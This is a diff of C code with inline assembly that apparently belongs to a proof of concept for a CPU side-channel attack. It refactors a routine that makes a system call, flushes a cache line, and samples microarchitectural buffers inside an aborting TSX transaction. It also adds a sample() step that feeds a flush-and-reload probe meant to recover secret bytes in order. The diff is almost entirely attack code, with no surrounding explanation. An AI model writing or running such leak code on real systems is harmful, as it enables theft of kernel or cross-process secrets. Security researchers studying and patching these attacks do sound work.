@@ -20,24 +20,32 @@ static int has_transactions(void)
 }
 
 /* A system call, then a transaction that aborts. */
-static void call_and_sample(long number, long first, const void *second, long third, int index)
+static void call_and_sample(long number, long first, const void *second, long third)
 {
-	register const uint8_t *address_register __asm__("r9") = own + place_of_load(index);
+	register const uint8_t *address_register __asm__("r9") = own + place;
 	register const uint8_t *probe_register __asm__("r8") = probe;
-	register uint64_t known_register __asm__("r10") = known_before(index);
+	register uint64_t known_register __asm__("r10") = known;
 
 	__asm__ volatile(
 		"mov %[number], %%rax\n\t"
 		"syscall\n\t"
 		"clflush (%[address])\n\t"
 		"xbegin 9f\n\t"
-		SAMPLE_BUFFERS
+		TWELVE_TIMES(SAMPLE_BUFFER)
 		"xend\n\t"
 		"9:\n\t"
 		: "+d"(third)
 		: [number] "r"(number), "D"(first), "S"(second), [address] "r"(address_register),
 		  [probe] "r"(probe_register), [known] "r"(known_register), [elsewhere] "r"(elsewhere)
 		: "rax", "rcx", "r11", "memory", "cc");
+}
+
+static int sample(int index)
+{
+	prepare_use(index);
+	aim(index);
+	use_secret_by(call_and_sample, index);
+	return reload_probe(probe);
 }
 
 int main(int argc, char **argv)
@@ -58,6 +66,6 @@ int main(int argc, char **argv)
 	memset(elsewhere, 1, sizeof(elsewhere));
 	memset(page, 1, sizeof(page));
 	own = page;
-	recover_in_order();
+	recover_in_order(sample);
 	return 0;
 }
